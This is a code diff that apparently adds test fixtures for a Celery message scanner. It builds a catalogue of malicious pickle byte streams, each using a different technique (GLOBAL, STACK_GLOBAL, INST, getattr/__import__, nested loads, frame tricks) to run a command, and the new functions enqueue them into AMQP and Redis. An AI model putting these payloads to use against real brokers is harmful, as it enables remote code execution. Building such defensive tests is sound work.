@@ -37,6 +37,33 @@ def hostile(protocol=4, command="id"):
                         protocol=protocol)
 
 
+def hostile_kinds():
+    """Streams put together as bytes, one technique each: (name, bytes). Their commands are harmless, and nobody loads them."""
+    def text(t):
+        return b"X" + len(t).to_bytes(4, "little") + t.encode()
+    system = b"cposix\nsystem\n"
+    inner = b"\x80\x02" + system + text("id") + b"\x85R."
+    return [
+        ("GLOBAL", b"\x80\x02" + system + text("id") + b"\x85R."),
+        ("STACK_GLOBAL", b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R."),
+        ("INST", b"(S'id'\niposix\nsystem\n."),
+        ("OBJ", b"(" + system + b"S'id'\no."),
+        ("NEWOBJ_EX", b"\x80\x04csubprocess\nPopen\n" + text("id") + b"\x85}\x92."),
+        ("Python 2 name", b"\x80\x02ccommands\ngetoutput\n" + text("id") + b"\x85R."),
+        ("getattr", b"\x80\x02cbuiltins\ngetattr\n(c__builtin__\n__import__\n" + text("os") + b"\x85R" + text("system") + b"tR" + text("id") + b"\x85R."),
+        ("dotted", b"\x80\x04cpathlib\nos.system\n" + text("id") + b"\x85R."),
+        ("nested", b"\x80\x02c_pickle\nloads\nB" + len(inner).to_bytes(4, "little") + inner + b"\x85R."),
+        ("discarded", b"\x80\x02" + system + text("id") + b"\x85R0N."),
+        ("broken behind it", b"\x80\x02" + system + text("id") + b"\x85R\xff"),
+        ("across a frame", b"\x80\x05\x95\x02\0\0\0\0\0\0\0B\x07\x01\0\0\0Z" + b"N" * 256 + system + text("id") + b"\x85R."),
+        ("behind STOP", b"\x80\x02N." + inner),
+        ("import alone", b"\x80\x02csubprocess\nPopen\n."),
+        ("of Celery", b"\x80\x02ckombu.utils.imports\nsymbol_by_name\n" + text("os:system") + b"\x85R" + text("id") + b"\x85R."),
+        ("memo", b"Nr\xff\xff\xff\x0f."),
+        ("depth", b"\x80\x04}N" + b"\x85" * 20000 + b"Ns."),
+    ]
+
+
 EMBED = {"callbacks": None, "errbacks": None, "chain": None, "chord": None}
 
 
@@ -96,6 +123,14 @@ def amqp_pickles():
     ch.basic_publish(amqp.Message(pickle.dumps(v1, 2), content_type=kind, content_encoding="binary", correlation_id=v1["id"]),
                      exchange="", routing_key="backup")
     noted("shop.add", v1["id"], "backup", 1, content_type=kind)
+    connection.close()
+
+
+def amqp_hostile():
+    connection, ch = amqp_open()
+    ch.queue_declare("backup", durable=True, auto_delete=False)
+    for _name, data in hostile_kinds():
+        amqp_task(ch, "shop.echo", data, queue="backup", content_type="application/x-python-serialize", encoding="binary")
     connection.close()
 
 
@@ -197,6 +232,14 @@ def redis_pickles():
                         "delivery_tag": str(uuid.uuid4())}}
     client.lpush("backup", json.dumps(e))
     noted("shop.add", v1["id"], "backup", 1, content_type=kind)
+    time.sleep(1)
+
+
+def redis_hostile():
+    client = redis_open()
+    for _name, data in hostile_kinds():
+        client.lpush("backup", envelope("shop.echo", data, "backup", "application/x-python-serialize", "binary"))
+    client.set("celery-task-meta-" + str(uuid.uuid4()), hostile_kinds()[0][1])
     time.sleep(1)
 
 
